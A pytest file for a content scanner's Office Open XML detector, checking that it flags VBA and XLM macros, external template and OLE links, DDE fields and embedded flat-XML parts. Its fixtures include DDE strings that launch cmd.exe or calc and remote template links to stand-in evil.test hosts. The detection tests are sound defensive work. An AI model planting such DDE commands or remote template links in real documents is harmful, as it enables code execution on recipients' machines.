"""Office Open XML: macros by content type and link, DDE, what is loaded from elsewhere, one-file XML."""

from __future__ import annotations

import base64
import zlib

import pytest

from icapd.content import office
from icapd.content.budget import Bounds, Budget
from tests.content.samples import MAGIC, members, ooxml

MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
LINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def package(data: bytes) -> tuple[set[str], tuple[str, ...]]:
    looked = office.look_package(data, members(data))
    return {one.threat for one in looked.findings}, looked.types


def xml(text: bytes) -> set[str]:
    return {one.threat for one in office.look_xml(text, Budget(Bounds(), len(text))).findings}


def test_parts_that_are_macros_by_their_content_type_are_told() -> None:
    assert package(ooxml({"word/vbaProject.bin": b"x"}, MACRO)) == ({"VBA"}, ("docm",))
    assert package(ooxml({"word/other.bin": b"x"})) == ({"VBA"}, ("docx",))
    sheet = '<Override PartName="/xl/m/s1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
    assert package(ooxml({"xl/m/s1.xml": b"x"}, more=sheet))[0] == {"XLM"}
    odd = "<Override Id='a>b' ContentType='application/vnd.ms-office.vba&#80;roject' PartName='/a.dat'/>"
    assert package(ooxml({"a.dat": b"x"}, more=odd))[0] == {"VBA"}


@pytest.mark.parametrize("name", ["word/vbaProject.txt", "vbaProject.bin.md", "docs/vbaProject"])
def test_a_package_that_only_could_hold_macros_is_clean(name: str) -> None:
    assert package(ooxml({name: b"x"})) == (set(), ("docx",))


@pytest.mark.parametrize("data", [b"", b"PK\x03\x04", b"PK\x05\x06" + bytes(18)])
def test_what_is_no_package_is_none(data: bytes) -> None:
    assert office.look_package(data, ("a",)).findings == ()


@pytest.mark.parametrize(
    ("kind", "target", "threat"),
    [
        ("vbaProject", "vbaProject.bin", {"VBA"}),
        ("xlMacrosheet", "macrosheets/s.xml", {"XLM"}),
        ("attachedTemplate", "https://evil.test/a.dotm", {"External.attachedTemplate"}),
        ("attachedTemplate", "\\\\evil.test\\a.dotm", {"External.attachedTemplate"}),
        ("oleObject", "mhtml:http://evil.test/x!x-usc:http://evil.test/x", {"External.oleObject"}),
        ("attachedTemplate", "file:///C:\\Users\\me\\Normal.dotm", set()),
        ("hyperlink", "https://example.test/", set()),
        ("image", "https://example.test/a.png", set()),
    ],
)
def test_links_are_told_by_what_they_load(kind: str, target: str, threat: set[str]) -> None:
    text = (
        f"<Relationships><Relationship Id='a' Type='{LINK}{kind}' Target='{target}' TargetMode='External'/>"
    )
    assert xml(text.encode()) == threat


@pytest.mark.parametrize(
    "text",
    [
        b"<w:instrText>DDEAUTO c:\\\\cmd.exe x</w:instrText>",
        b"<w:instrText>D</w:instrText><w:r/><w:instrText xml:space='preserve'>DE cmd x</w:instrText>",
        b'<w:fldSimple w:instr=" DDE cmd x">',
        b"<ddeLink ddeService='cmd'/>",
        b"<f>cmd|'/c calc'!A0</f>",
    ],
)
def test_dde_is_told(text: bytes) -> None:
    assert xml(text) == {"DDE"}


@pytest.mark.parametrize(
    "text",
    [
        b"<w:t>DDEAUTO, macrosheet and vbaProject.bin explained</w:t>",
        b"<w:instrText>PAGE</w:instrText>",
        b"<f>SUM(A1:B2)</f>",
        b"<worksheet/>",
    ],
)
def test_text_that_speaks_of_it_is_clean(text: bytes) -> None:
    assert xml(text) == set()


def test_a_macro_sheet_is_one_by_its_root() -> None:
    assert xml(b"<?xml version='1.0'?>\n<xm:macrosheet xmlns:xm='x'>") == {"XLM"}


def test_what_one_file_of_xml_carries_are_parts() -> None:
    text = b"<pkg:package><pkg:binaryData>" + base64.encodebytes(MAGIC + b"x" * 200) + b"</pkg:binaryData>"
    assert [data for _, data in office.look_xml(text, Budget(Bounds(), 1)).parts] == [MAGIC + b"x" * 200]
    wrapped = b"ActiveMime".ljust(0x32, b"\0") + zlib.compress(MAGIC)
    assert [data for _, data in office.active_mime(wrapped, Budget(Bounds(), 1))] == [MAGIC]
